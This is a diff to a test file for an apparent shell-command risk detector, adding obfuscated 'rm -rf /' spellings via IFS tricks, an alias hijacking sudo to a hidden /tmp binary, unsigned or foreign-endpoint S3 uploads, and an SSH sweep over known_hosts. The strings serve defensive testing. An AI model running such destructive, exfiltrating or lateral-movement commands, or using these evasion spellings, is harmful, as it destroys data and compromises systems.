@@ -52,6 +52,8 @@ describe('shell words', () => {
     'RM=rm; A=RM; ${!A} -rf /',
     '$(echo rm) -rf /',
     '`printf rm` -rf /',
+    'IFS=,; X=rm,-rf,/; $X',
+    "IFS=$'\\n,'; X=rm,-rf,/; $X",
   ];
   for (const text of spellings) it(`resolves ${text}`, () => assert.deepEqual(deleted(text), ['/']));
 
@@ -182,6 +184,24 @@ describe('shapes', () => {
     assert.ok(shapes('true;'.repeat(5000)).includes('over-budget'));
     assert.ok(shapes(`echo ${'a'.repeat(40_000)}`).includes('over-budget'));
     assert.ok(shapes(`${'eval '.repeat(20)}ls`).includes('over-budget'));
+  });
+
+  it('tells a name that would start a hidden program from a shorter one', () => {
+    assert.deepEqual(shapes("alias sudo='/tmp/.s'"), ['program-alias']);
+    assert.deepEqual(shapes("alias git='~/.cache/git'"), ['program-alias']);
+    assert.deepEqual(shapes("alias sudo='sudo '; alias k=kubectl; alias git=~/.local/bin/git"), []);
+  });
+
+  it('tells uploads that need no login from downloads', () => {
+    assert.deepEqual(shapes('aws s3 sync src s3://b --no-sign-request'), ['anonymous-upload']);
+    assert.deepEqual(shapes('aws s3 sync s3://b data --no-sign-request'), []);
+    assert.deepEqual(shapes('aws s3 sync . s3://b --endpoint-url https://s3.example.net'), ['foreign-upload']);
+    assert.deepEqual(shapes('aws s3 sync . s3://b --endpoint-url https://a.r2.cloudflarestorage.com'), []);
+  });
+
+  it('sees all hosts that are known gone through', () => {
+    assert.deepEqual(shapes("for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh $h id; done"), ['login-range']);
+    assert.deepEqual(shapes('for h in $(cat hosts.txt); do ssh $h id; done'), []);
   });
 
   it('reads SQL in command line clients', () => {
